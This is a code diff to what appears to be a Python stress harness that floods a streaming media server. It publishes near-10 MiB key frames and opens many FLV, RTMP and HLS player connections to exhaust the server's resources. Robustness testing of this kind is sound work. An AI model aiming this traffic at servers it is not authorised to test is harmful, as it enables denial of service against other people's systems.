@@ -162,12 +162,33 @@ def joins(attack: Attack) -> None:
                         attack.http("POST", "api", f"/rtc/v1/whep/?app=live&stream={stream}", sdp)
 
 
+def flv_player(attack: Attack, stream: str) -> socket.socket:
+    connection = attack.tcp("http")
+    connection.sendall(f"GET /live/{stream}.flv HTTP/1.1\r\nHost: server\r\n\r\n".encode())
+    return connection
+
+
+def rtmp_player(attack: Attack, stream: str) -> socket.socket:
+    client = RtmpClient(attack.ports["rtmp"], timeout=2, host=SERVER, source=attack.address)
+    client.play(stream)
+    return client.socket
+
+
+def take_all(attack: Attack, stream: str, join) -> None:
+    with contextlib.suppress(*ERRORS), join(attack, stream) as connection:
+        connection.settimeout(max(0.1, attack.until - time.monotonic()))
+        while connection.recv(1 << 20) and time.monotonic() < attack.until:
+            pass
+
+
 def giants(attack: Attack) -> None:
-    """Key frames of nearly 10 and nearly 4 MiB, for every output there is."""
+    """Key frames of nearly 10 and nearly 4 MiB, for every output there is and for players of their own."""
     stream = f"giant-{attack.address}"
     while attack.goes_on(0.5):
         with contextlib.suppress(*ERRORS), attack.publisher(stream) as client:
             client.send(encode_message(VIDEO, 0, AVC_SETUP))
+            for join in (flv_player, rtmp_player):
+                threading.Thread(target=take_all, args=(attack, stream, join), daemon=True).start()
             for i in range(1000):
                 client.send(encode_message(VIDEO, 300 * i, picture(((10 << 20) - 1000, (4 << 20) - 1000)[i % 2], True)))
                 if not attack.goes_on(0.3):
@@ -225,8 +246,7 @@ def sleepers(attack: Attack) -> None:
                 client.play("good")
                 held.append(client)
             elif attack.done % 3 == 1 and len(held) < 50:
-                held.append(attack.tcp("http"))
-                held[-1].sendall(b"GET /live/good.flv HTTP/1.1\r\nHost: server\r\n\r\n")
+                held.append(flv_player(attack, "good"))
             else:
                 attack.http("GET", "http", f"/live/{('good', f'none{attack.done}')[attack.done % 2]}.m3u8")
 
